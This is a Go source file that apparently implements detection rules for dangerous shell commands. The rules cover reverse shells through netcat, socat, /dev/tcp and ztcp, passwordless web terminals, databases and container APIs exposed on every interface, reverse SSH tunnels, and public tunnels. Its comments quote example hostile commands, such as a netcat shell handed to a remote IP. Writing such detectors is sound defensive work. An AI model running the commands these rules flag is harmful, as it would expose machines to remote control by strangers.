package guard

import (
	"strings"
)

// Rules for shells served to or from the network (category reverse_shell).
var reverseShellRules = []*rule{
	{ID: "shell-server-open", Level: LevelCritical, Category: CategoryReverseShell, Description: "serving a shell to the network without a password: a writable web terminal on every interface, or an SSH server taking empty passwords",
		Suggestions: []string{"Bind the terminal to 127.0.0.1 and set a credential (ttyd -c user:pass)", "Use the system's SSH server with keys"},
		names:       names("ttyd", "gotty", "dropbear", "sshd", "websocat", "telnetd", "utelnetd"),
		match: func(a *analysis, c *cmd) (bool, string) {
			args := c.args()
			switch c.name {
			case "telnetd", "utelnetd":
				// busybox telnetd -l /bin/sh: a root shell to whoever
				// connects, no login asked
				if v, ok := optValue(args, "-l", ""); ok && (strings.HasSuffix(v, "/sh") || strings.HasSuffix(v, "/bash") || strings.HasSuffix(v, "/ash")) {
					return true, c.name + " -l " + v
				}
				return false, ""
			case "websocat":
				// a listening WebSocket joined to a shell (sh-c:, exec:)
				listen, shell := false, false
				for _, w := range args {
					l := lower(w.s)
					if strings.HasPrefix(l, "ws-l:") || strings.HasPrefix(l, "l-ws:") || l == "-s" || strings.HasPrefix(l, "ws-listen:") {
						listen = true
					}
					if strings.HasPrefix(l, "sh-c:") || strings.HasPrefix(l, "exec:") || strings.HasPrefix(l, "cmd:") {
						shell = true
					}
				}
				return listen && shell, joinWords(args)
			case "ttyd", "gotty":
				writable := hasWord(args, "-W") || hasWord(args, "--writable") || hasWord(args, "-w") || hasWord(args, "--permit-write")
				_, cred := optValue(args, "-c", "credential")
				iface, bound := optValue(args, "-i", "interface")
				if c.name == "gotty" {
					iface, bound = optValue(args, "-a", "address")
				}
				local := bound && (iface == "lo" || iface == "lo0" || isLocalHost(iface))
				// bound to every interface on purpose: older releases
				// take keystrokes without -W
				everywhere := bound && (iface == "0.0.0.0" || iface == "::" || iface == "[::]")
				return (writable || everywhere) && !cred && !local, joinWords(args)
			case "dropbear":
				return hasWord(args, "-B"), "dropbear -B"
			case "sshd":
				for _, w := range args {
					if l := lower(w.s); strings.Contains(l, "permitemptypasswords") && (strings.Contains(l, "yes") || strings.HasSuffix(l, "=yes")) {
						return true, w.s
					}
				}
			}
			return false, ""
		}},
	{ID: "service-open-to-all", Level: LevelHigh, Category: CategorySystem, Description: "a database, container runtime, secrets server, cluster proxy or file server listening on every interface without its protection",
		Suggestions: []string{"Bind it to 127.0.0.1", "Keep its authentication and protected mode on"},
		names:       names("redis-server", "mongod", "dockerd", "vault", "kubectl", "httpd", "ruby", "http-server", "npx", "php", "docker"),
		match: func(a *analysis, c *cmd) (bool, string) {
			args := c.args()
			j := joinWords(args)
			switch c.name {
			case "docker":
				// docker run -p 6379:6379 redis --protected-mode no: the
				// container's port published on every interface, its
				// protection off
				if ops := c.operands(); len(ops) > 0 && ops[0].s == "run" && (strings.Contains(j, "--protected-mode no") || strings.Contains(j, "--bind_ip_all") && !strings.Contains(j, "--auth")) {
					for i, w := range args {
						p := ""
						if (w.s == "-p" || w.s == "--publish") && i+1 < len(args) {
							p = args[i+1].s
						} else if v, ok := strings.CutPrefix(w.s, "--publish="); ok {
							p = v
						}
						// 6379:6379, or 0.0.0.0:6379:6379 written out: every
						// interface (127.0.0.1:6379:6379 is this machine's)
						if p != "" && (strings.Count(p, ":") == 1 || strings.HasPrefix(p, "0.0.0.0:") || strings.HasPrefix(p, "[::]:")) {
							return true, "docker run -p " + p + " with the service's protection off"
						}
					}
				}
				// podman system service tcp:0.0.0.0:8888: the engine's API,
				// root over the user's containers, to anyone who connects
				if !hasWord(args, "service") {
					break
				}
				if ops := c.operands(); len(ops) > 2 && ops[0].s == "system" && ops[1].s == "service" {
					for _, w := range ops[2:] {
						if strings.HasPrefix(w.s, "tcp:0.0.0.0") || strings.HasPrefix(w.s, "tcp://0.0.0.0") || strings.HasPrefix(w.s, "tcp::") || strings.HasPrefix(w.s, "tcp:[::]") {
							return true, "podman system service " + w.s
						}
					}
				}
			case "redis-server":
				return strings.Contains(j, "--protected-mode no"), "redis-server --protected-mode no"
			case "mongod":
				return (hasWord(args, "--bind_ip_all") || strings.Contains(j, "--bind_ip 0.0.0.0")) && !hasWord(args, "--auth"), "mongod on every interface without --auth"
			case "dockerd":
				// the Docker API over plain TCP is root on the host for anyone
				for _, w := range args {
					if strings.Contains(w.s, "tcp://0.0.0.0") || strings.Contains(w.s, "tcp://:") {
						return !hasWord(args, "--tlsverify"), "dockerd -H " + w.s
					}
				}
			case "vault":
				return len(args) > 1 && args[0].s == "server" && hasWord(args, "-dev") && strings.Contains(j, "0.0.0.0"), "vault dev server on every interface"
			case "kubectl":
				ops := posArgs(args, kubectlGlobal)
				// kubectl patch svc redis-master -p '{"spec":{"type":"LoadBalancer"}}':
				// the same, for a service that exists
				patched := len(ops) > 1 && ops[0].s == "patch" && (strings.HasPrefix(ops[1].s, "svc") || strings.HasPrefix(ops[1].s, "service")) &&
					(strings.Contains(j, `"LoadBalancer"`) || strings.Contains(j, `"NodePort"`) || strings.Contains(j, "type: LoadBalancer"))
				if patched || len(ops) > 1 && ops[0].s == "expose" && (strings.Contains(j, "--type LoadBalancer") || strings.Contains(j, "--type=LoadBalancer")) {
					// a database's port given a public address
					l := lower(j)
					for _, k := range [...]string{"postgres", "mysql", "mariadb", "redis", "mongo", "elastic", "5432", "3306", "6379", "27017", "9200"} {
						if strings.Contains(l, k) {
							return true, "kubectl expose " + ops[1].s + " --type LoadBalancer"
						}
					}
					// an operator's console (Kibana, Grafana, Prometheus, a
					// game server's RCON) on a cluster that is not a local one
					if !localKubeContext(args) {
						for _, k := range [...]string{"kibana", "grafana", "prometheus", "alertmanager", "rcon", "jenkins", "argocd", "vault", "consul", "etcd", "rabbitmq", "opensearch", "minio"} {
							if strings.Contains(l, k) {
								return true, "kubectl expose " + ops[1].s + " --type LoadBalancer (an operator's console)"
							}
						}
					}
					// any of production's services given a public address
					// by hand, outside its reviewed manifests
					if (!patched || strings.Contains(j, "0.0.0.0/0")) && touchesProduction(c) {
						return true, "kubectl expose " + ops[1].s + " --type LoadBalancer (production)"
					}
				}
				return len(ops) > 0 && ops[0].s == "proxy" && (strings.Contains(j, "0.0.0.0") || strings.Contains(j, "--accept-hosts")), "kubectl proxy for every host"
			default:
				// a static file server on every interface serving the home
				// directory or the filesystem
				all := strings.Contains(j, "0.0.0.0")
				for _, w := range args {
					if all && (w.s == "/" || w.s == "~" || w.s == a.home) {
						return true, c.base + " serving " + w.s
					}
				}
				if v, ok := optValue(args, "-h", ""); ok && all && (v == "/" || v == a.home) {
					return true, c.base + " serving " + v
				}
			}
			return false, ""
		}},
	{ID: "ssh-reverse-tunnel", Level: LevelHigh, Category: CategoryReverseShell, Description: "a reverse SSH tunnel exposing this machine",
		Suggestions: []string{"Use a local forward (-L) to reach remote services", "Do not expose local ports to remote hosts"}, names: names("ssh", "autossh"),
		match: func(a *analysis, c *cmd) (bool, string) {
			args := c.args()
			spec, ok := optValue(args, "-R", "")
			if !ok {
				return false, ""
			}
			if strings.HasSuffix(spec, ":22") || toPublicIP(c) != "" || strings.HasPrefix(spec, "0.0.0.0:") {
				return true, spec
			}
			return false, ""
		}},
	{ID: "revshell-dev-tcp", Level: LevelCritical, Category: CategoryReverseShell, Description: "a shell wired to a network connection (/dev/tcp)",
		Suggestions: suggRevShell, names: append(append([]string{}, execNames...), "exec"),
		match: func(a *analysis, c *cmd) (bool, string) {
			for _, r := range c.redirs {
				if isNetDev(r.w.s) && (shellNameSet[c.name] || scriptLangs[c.name] != "") {
					return true, r.w.s
				}
				if (r.op.String() == "<&" || r.op.String() == ">&") && a.tcpFDs[r.w.s] && (shellNameSet[c.name] || scriptLangs[c.name] != "") {
					return true, "fd " + r.w.s
				}
			}
			if shellNameSet[c.name] && c.in.kind == flowSocket && c.script != nil && c.script.kind == scriptStdin {
				for _, r := range c.redirs {
					if r.op.String() == ">&" || r.op.String() == "&>" {
						return true, c.in.what
					}
				}
			}
			return false, ""
		}},
	{ID: "revshell-socket-fd", Level: LevelHigh, Category: CategoryReverseShell, Description: "opening a raw network socket on a file descriptor",
		Suggestions: suggRevShell, names: names("exec", ""),
		match: func(a *analysis, c *cmd) (bool, string) {
			if len(c.args()) > 0 {
				return false, ""
			}
			for _, r := range c.redirs {
				if isNetDev(r.w.s) && r.n != "" && r.n != "0" && r.n != "1" && r.n != "2" && !loopbackNetDev(r.w.s) {
					return true, r.w.s
				}
			}
			return false, ""
		}},
	{ID: "revshell-netcat-exec", Level: LevelCritical, Category: CategoryReverseShell, Description: "netcat serving a shell (-e / --exec)",
		Suggestions: suggRevShell, names: names("nc"),
		match: func(a *analysis, c *cmd) (bool, string) {
			args := c.args()
			for i, w := range args {
				s := w.s
				if s == "--exec" && i+1 < len(args) && harmlessExec[args[i+1].s] || strings.HasPrefix(s, "--exec=") && harmlessExec[s[len("--exec="):]] {
					continue // an echo or discard server: cat, tee, true
				}
				if s == "--exec" || s == "--sh-exec" || s == "--lua-exec" || strings.HasPrefix(s, "--exec=") || strings.HasPrefix(s, "--sh-exec=") {
					return true, s
				}
				if len(s) > 1 && s[0] == '-' && s[1] != '-' && strings.ContainsAny(s[1:], "ec") {
					// -e PROG / -c CMD, possibly in a cluster (-nve)
					if i+1 < len(c.args()) || len(s) > 2 {
						return true, s
					}
				}
			}
			return false, ""
		}},
	{ID: "revshell-renamed-netcat", Level: LevelCritical, Category: CategoryReverseShell, Description: "a program given an address, a port and a shell to run (netcat's -e under another name)",
		Suggestions: suggRevShell,
		match: func(a *analysis, c *cmd) (bool, string) {
			// n.exe 198.51.100.8 443 -e cmd.exe: whatever the program is
			// called, these arguments hand a shell to a remote host
			args := c.args()
			if !shellOptionAmong(args) {
				return false, "" // most commands: no -e, --exec or -c at all
			}
			shell, host, port := "", false, false
			for i, w := range args {
				l := lower(strings.Trim(w.s, `"'`))
				switch {
				case (l == "-e" || l == "--exec" || l == "-c") && i+1 < len(args) && shellProgram(lower(strings.Trim(args[i+1].s, `"'`))):
					shell = args[i+1].s
				case allDigits(l) && len(l) <= 5 && l != "":
					port = true
				case hostLike(l):
					host = true
				}
			}
			if shell != "" && host && port {
				return true, shell
			}
			return false, ""
		}},
	{ID: "revshell-socat-exec", Level: LevelCritical, Category: CategoryReverseShell, Description: "socat connecting a program to the network",
		Suggestions: suggRevShell, names: names("socat"),
		match: func(a *analysis, c *cmd) (bool, string) {
			execAddr, net := false, false
			for _, w := range c.args() {
				l := lower(w.s)
				if strings.HasPrefix(l, "exec:") || strings.HasPrefix(l, "system:") || strings.HasPrefix(l, "exec=") {
					execAddr = true
				}
				if strings.HasPrefix(l, "tcp") || strings.HasPrefix(l, "udp") || strings.HasPrefix(l, "openssl") || strings.HasPrefix(l, "ssl") || strings.HasPrefix(l, "sctp") {
					net = true
				}
			}
			return execAddr && net, ""
		}},
	{ID: "revshell-pipeline", Level: LevelCritical, Category: CategoryReverseShell, Description: "a shell reading from or writing to a network connection",
		Suggestions: suggRevShell, names: execNames,
		match: func(a *analysis, c *cmd) (bool, string) {
			if c.script == nil || c.script.kind != scriptStdin {
				return false, ""
			}
			if c.script.flow.kind == flowSocket {
				return true, c.script.flow.what
			}
			if s := laterStage(c, isSocketCmd); s != nil {
				return true, s.line()
			}
			return false, ""
		}},
	{ID: "revshell-script", Level: LevelCritical, Category: CategoryReverseShell, Description: "interpreter code connecting a shell to the network",
		Suggestions: suggRevShell, names: interpNames,
		match: func(a *analysis, c *cmd) (bool, string) {
			if c.scan != nil && c.scan.revShell != "" {
				return true, c.scan.revShell
			}
			return false, ""
		}},
	{ID: "revshell-read-loop", Level: LevelCritical, Category: CategoryReverseShell, Description: "running commands read from a network connection",
		Suggestions: suggRevShell, names: names("<socket-loop>"),
		match: func(a *analysis, c *cmd) (bool, string) { return true, "" }},
	{ID: "revshell-zsh-tcp", Level: LevelCritical, Category: CategoryReverseShell, Description: "zsh opening a TCP connection (ztcp)",
		Suggestions: suggRevShell, names: names("ztcp"),
		match: func(a *analysis, c *cmd) (bool, string) {
			ops := c.operands()
			return len(ops) >= 2 && !loopback(ops[0].s), "" // the developer's own local service is no shell
		}},
	{ID: "runtime-socket-shell", Level: LevelCritical, Category: CategoryReverseShell, Description: "runtime code wiring a network socket to a command runner",
		Suggestions: suggRevShell,
		match: func(a *analysis, c *cmd) (bool, string) {
			cat, what := runtimeVerdict(runtimeCode(c))
			return cat == CategoryReverseShell, what
		}},
	{ID: "runtime-remote-eval", Level: LevelCritical, Category: CategoryRemoteExec, Description: "runtime code evaluating what it downloads",
		Suggestions: suggRemote,
		match: func(a *analysis, c *cmd) (bool, string) {
			cat, what := runtimeVerdict(runtimeCode(c))
			return cat == CategoryRemoteExec, what
		}},
	{ID: "runtime-sends-secrets", Level: LevelCritical, Category: CategoryExfiltration, Description: "runtime code sending credentials or the environment over the network",
		Suggestions: suggExfil,
		match: func(a *analysis, c *cmd) (bool, string) {
			cat, what := runtimeVerdict(runtimeCode(c))
			return cat == CategoryExfiltration, what
		}},
	{ID: "open-server-no-auth", Level: LevelCritical, Category: CategoryReverseShell, Description: "a server listening on every interface with its login switched off (anyone who reaches the port runs code)",
		Suggestions: []string{"Bind to 127.0.0.1 and keep the token", "Reach it through an SSH tunnel"},
		match: func(a *analysis, c *cmd) (bool, string) {
			if d := openServerNoAuth(c); d != "" {
				return true, d
			}
			return false, ""
		}},
	{ID: "public-tunnel", Level: LevelCritical, Category: CategoryReverseShell, Description: "publishing this machine's port or terminal to the internet through a tunnel or a shared session",
		Suggestions: []string{"Share a port only on the private tailnet or through SSH to a known host", "Keep development servers on 127.0.0.1"},
		match: func(a *analysis, c *cmd) (bool, string) {
			if d := publicTunnel(c); d != "" {
				return true, d
			}
			return false, ""
		}},
	{ID: "revshell-x11", Level: LevelHigh, Category: CategoryReverseShell, Description: "an X terminal displayed on a remote host",
		Suggestions: suggRevShell, names: names("xterm"),
		match: func(a *analysis, c *cmd) (bool, string) {
			v, ok := optValue(c.args(), "-display", "display")
			return ok && strings.Contains(v, ":") && !strings.HasPrefix(v, ":") && !strings.HasPrefix(v, "localhost"), v
		}},
}

func init() { ruleSets = append(ruleSets, reverseShellRules) }

// loopbackNetDev reports /dev/tcp/HOST/PORT on this machine: a port probe
// or a local client, which no one outside reaches through.
func loopbackNetDev(p string) bool {
	rest, ok := strings.CutPrefix(p, "/dev/tcp/")
	if !ok {
		rest, ok = strings.CutPrefix(p, "/dev/udp/")
	}
	host, _, _ := strings.Cut(rest, "/")
	return ok && loopback(host)
}

// harmlessExec are programs ncat --exec may serve that give the peer no
// command: an echo server, a sink.
var harmlessExec = map[string]bool{"/bin/cat": true, "/usr/bin/cat": true, "cat": true, "/bin/true": true, "/usr/bin/true": true, "true": true}

// shellProgram reports a command interpreter named as a program to run
// (lower case): cmd.exe, powershell, /bin/sh, bash.
func shellProgram(p string) bool {
	if i := strings.LastIndexAny(p, `/\`); i >= 0 {
		p = p[i+1:]
	}
	p = strings.TrimSuffix(p, ".exe")
	switch p {
	case "cmd", "powershell", "pwsh", "sh", "bash", "zsh", "dash", "ash", "ksh":
		return true
	}
	return false
}

// hostLike reports a word (lower case) that names a host: an IP address,
// or a dotted name whose last label is a top-level domain rather than a
// file's extension.
func hostLike(l string) bool {
	if _, ok := parseIP(l); ok {
		return true
	}
	if strings.HasPrefix(l, "-") || strings.ContainsAny(l, `/\=:*?$%`) || strings.Count(l, ".") == 0 {
		return false
	}
	tld := l[strings.LastIndexByte(l, '.')+1:]
	if len(tld) < 2 || len(tld) > 6 {
		return false
	}
	for _, r := range tld {
		if r < 'a' || r > 'z' {
			return false
		}
	}
	switch tld {
	case "exe", "dll", "txt", "log", "json", "yaml", "yml", "xml", "ps1", "bat", "cmd", "sh", "py", "js", "ts", "md", "csv", "zip", "gz", "tar", "conf", "ini", "cfg", "sql", "db", "bak", "tmp", "out", "msi", "jar", "go", "rs", "rb", "pl", "php", "html", "css", "png", "jpg", "pem", "key", "crt":
		return false
	}
	return true
}

// shellOptionAmong reports an -e, --exec or -c option (in any case, maybe
// quoted) among the arguments, the only way revshell-renamed-netcat's
// shell is given.
func shellOptionAmong(args []word) bool {
	for i, w := range args {
		s := strings.Trim(w.s, `"'`)
		if i+1 < len(args) && (len(s) == 2 && s[0] == '-' && (s[1]|0x20 == 'e' || s[1]|0x20 == 'c') || strings.EqualFold(s, "--exec")) {
			return true
		}
	}
	return false
}
